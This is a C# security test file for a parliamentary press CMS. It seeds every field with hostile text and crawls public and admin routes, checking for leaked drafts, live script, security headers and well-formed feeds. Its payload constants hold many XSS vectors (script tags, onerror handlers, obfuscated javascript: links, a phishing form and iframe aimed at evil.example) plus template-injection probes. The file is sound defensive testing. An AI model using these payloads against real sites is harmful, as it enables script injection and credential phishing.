using System.Xml.Linq;
using MepCms.Tests.Support;
using MepCms.Web.Features.Articles;
using MepCms.Web.Features.Meps;
using MepCms.Web.Infrastructure.Markdown;
using Microsoft.Extensions.DependencyInjection;

namespace MepCms.Tests.Security;

/// <summary>
/// Catalogue rows E16/E17: hostile text in every field of every entity, a draft and a scheduled
/// statement carrying unique markers, then a crawl of every public route and every admin page.
/// No page shows a marker publicly, runs script, or loses its security headers; feeds stay XML.
/// </summary>
public sealed class CanaryCrawlTests(ProductionSecurityTestApp app) : IClassFixture<ProductionSecurityTestApp>
{
    private const string DraftMarker = "zqdraftcanary";
    private const string ScheduledMarker = "zqscheduledcanary";

    // T1–T4: short-field payloads (titles, names, places).
    private const string Short = "xsspayload \"><img src=x onerror=alert(1)> </script><script>alert(1)</script> ]]></title><script>alert(2)</script> \u202Egnp.exe\u2066\u200B";

    // M1–M18 in one body: each line is a catalogue row.
    private const string Markdown = """
        xsspayload body
        <script>alert(1)</script>

        <img src=x onerror=alert(1)> <svg><animate onbegin=alert(1) attributeName=x dur=1s>

        [m3](javascript:alert(1)) [m4](JaVaScRiPt:alert(1)) [m4b](java%0Ascript:alert(1)) [m4c](javascript&#58;alert(1)) [m4d]( javascript:alert(1))

        <javascript:alert(1)> [m6](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [m6b](vbscript:msgbox(1))

        ![a](x "t\" onerror=\"alert(1))

        # Hi {onclick=alert(1)}

        [m9](//evil.example/p)

        <form action=https://evil.example><input name=password><button>Login</button></form>

        <iframe src=https://evil.example> <object> <embed> <base href=//evil.example> <meta http-equiv=refresh>

        <div style="position:fixed;inset:0">x</div>

        # rating-form

        {{ 7*7 }} @DateTime.Now ${7*7} <%= 7*7 %>

        <![CDATA[><img src=x onerror=alert(1)>]]> <!--x--!><img src=x onerror=alert(1)>--> <p xxx:onclick=alert(1)>t</p> <xmp><img src=x onerror=alert(1)></xmp>
        """;

    [Fact]
    public async Task No_route_leaks_a_hidden_statement_runs_hostile_text_or_drops_the_security_headers()
    {
        var world = await SeedAsync();
        var anonymous = app.CreateBrowserlessClient();
        string[] publicRoutes =
        [
            "/", "/?page=2", $"/articles/{world.Published.Slug}", "/meps", $"/meps/{world.Mep.Slug}", $"/meps/{world.Mep.Slug}/feed.xml",
            "/committees", $"/committees/{world.Committee}", $"/committees/{world.Committee}/feed.xml", $"/topics/{world.Topic}",
            "/search?q=xsspayload", "/search?q=script", $"/search?q={DraftMarker}", $"/search?q={ScheduledMarker}",
            "/feed.xml", "/sitemap.xml", "/robots.txt", "/no-such-page", $"/articles/{world.Draft.Slug}", $"/articles/{world.Scheduled.Slug}",
            $"/articles/{world.Published.Slug}/rating", $"/articles/{world.Draft.Slug}/rating", $"/articles/{world.Scheduled.Slug}/rating",
            $"/articles/{world.Draft.Id}", $"/?preview=1&status=draft&includeDrafts=true",
        ];
        foreach (var route in publicRoutes)
        {
            var (body, _) = await FetchAsync(anonymous, route);
            foreach (var marker in new[] { DraftMarker, ScheduledMarker })
            {
                // The search page repeats what was searched for; the statement itself (its slug) must still be absent.
                Assert.DoesNotContain(route.Contains(marker, StringComparison.Ordinal) ? $"/articles/{marker}" : marker, body, StringComparison.OrdinalIgnoreCase);
            }
        }

        var admin = app.CreateCookieClient();
        await SecurityTestApp.SignInAsync(admin);
        var adminRoutes = new List<string> { "/admin", "/admin/articles", "/admin/articles?status=Draft", "/admin/articles/new", "/account/password", "/account/two-factor" };
        foreach (var article in new[] { world.Published, world.Draft, world.Scheduled })
        {
            adminRoutes.AddRange([$"/admin/articles/{article.Id}/edit", $"/admin/articles/{article.Id}/preview", $"/admin/articles/{article.Id}/revisions",
                $"/admin/articles/{article.Id}/delete"]);
        }
        foreach (var route in adminRoutes)
        {
            var (body, _) = await FetchAsync(admin, route);
            if (route.Contains("/articles/", StringComparison.Ordinal) && !route.EndsWith("/new", StringComparison.Ordinal))
            {
                Assert.Contains("xsspayload", body, StringComparison.Ordinal); // the hostile text is really on the page, encoded
            }
        }
    }

    /// <summary>GETs a route: 200 or 404, the security headers, no live script; XML parses.</summary>
    private static async Task<(string Body, string ContentType)> FetchAsync(HttpClient client, string route)
    {
        var response = await client.GetAsync(route);
        var body = await response.Content.ReadAsStringAsync();
        var type = response.Content.Headers.ContentType?.MediaType ?? "";
        Assert.True((int)response.StatusCode is 200 or 404, $"{route} answered {response.StatusCode}");
        ExpectedHeaders.AssertPresent(response);
        if (type.EndsWith("xml", StringComparison.Ordinal))
        {
            var feed = XDocument.Parse(body); // throws when not well-formed
            Assert.DoesNotContain(feed.Descendants(), e => e.Name.LocalName == "script");
        }
        else if (type == "text/html")
        {
            var page = Html.Parse(body);
            // Forms are the site's own here (search, rating, sign-in, editor); the hostile text never makes one.
            var live = Html.ActiveContent(page).Where(finding => !finding.StartsWith("element:", StringComparison.Ordinal)).ToList();
            Assert.True(!live.Any(), $"{route}: {string.Join(" | ", live)}");
        }
        return (body, type);
    }

    private sealed record World(Author Mep, string Committee, string Topic, Article Published, Article Draft, Article Scheduled);

    private async Task<World> SeedAsync()
    {
        var markdown = app.Services.GetRequiredService<IMarkdownRenderer>();
        var mep = TestData.Author(Short);
        (mep.NationalParty, mep.PoliticalGroup, mep.BioMarkdown, mep.BioHtml) = (Short, Short, Markdown, markdown.Render(Markdown));
        (mep.PressEmail, mep.PressPhone) = ("x\"><script>alert(1)</script>@example.org", Short);
        var committee = TestData.Committee();
        (committee.Name, committee.Description) = (Short, Short);
        var topic = TestData.Topic();
        (topic.Name, topic.Description) = (Short, Short);
        await app.SaveAsync(mep);
        await app.SaveAsync(committee);
        await app.SaveAsync(topic);

        Article Hostile(string marker, ArticleStatus status, DateTimeOffset? publishAt)
        {
            var body = $"{marker} {Markdown}";
            var article = TestData.Article(app, title: $"{marker} {Short}", body: body, status: status, publishAt: publishAt, authors: mep);
            article.Slug = marker.Length > 0 ? $"{marker}-statement" : article.Slug;
            (article.Lead, article.Place, article.ProcedureReference) = ($"{marker} {Short}", $"{marker} {Short}", $"{marker}<script>");
            article.Committees.Add(committee);
            article.Topics.Add(topic);
            return article;
        }
        var published = await app.SaveAsync(Hostile("", ArticleStatus.Published, null));
        var draft = await app.SaveAsync(Hostile(DraftMarker, ArticleStatus.Draft, null));
        var scheduled = await app.SaveAsync(Hostile(ScheduledMarker, ArticleStatus.Published, app.Clock.GetUtcNow().AddDays(1)));
        for (var i = 0; i < 25; i++) // a second page of the home list
        {
            await app.SaveAsync(TestData.Article(app, title: $"{Short} {i}", authors: mep));
        }
        return new World(mep, committee.Slug, topic.Slug, published, draft, scheduled);
    }
}
